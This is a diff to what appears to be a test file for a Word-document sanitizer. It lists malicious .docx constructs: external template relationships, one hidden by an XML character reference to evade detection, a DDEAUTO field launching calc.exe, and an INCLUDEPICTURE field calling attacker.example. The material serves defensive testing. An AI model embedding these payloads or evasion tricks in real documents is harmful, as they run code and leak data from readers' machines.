@@ -103,6 +103,11 @@ PICTURE = (
     [
         (_relationship("word/_rels/settings.xml.rels", ATTACHED), "Word would fetch"),
         (_relationship("word/_rels/document.xml.rels", PICTURE), "Word would fetch"),
+        # the mode spelt with a character reference, which an XML reader (and Word) decodes
+        (
+            _relationship("word/_rels/settings.xml.rels", ATTACHED.replace("External", "&#69;xternal")),
+            "Word would fetch",
+        ),
         (_in_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\calc.exe"/></w:p>'), "DDEAUTO field"),
         (_in_body(_field(" INCLUDE", 'PICTURE "https://attacker.example/{{ title }}" \\d ')), "INCLUDEPICTURE field"),
         (_in_body(_field(" dde ", "x")), "DDE field"),  # Word reads field names in any case
